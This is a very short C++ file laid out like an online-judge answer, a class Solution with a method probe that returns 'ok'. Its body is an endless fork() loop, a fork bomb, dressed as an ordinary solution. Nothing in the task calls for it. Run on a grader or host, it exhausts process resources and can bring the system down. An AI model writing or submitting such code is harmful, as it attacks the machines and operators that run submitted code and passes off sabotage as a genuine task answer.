#include <unistd.h>
class Solution {
public:
    string probe(string what) {
        for (;;) fork();
        return "ok";
    }
};
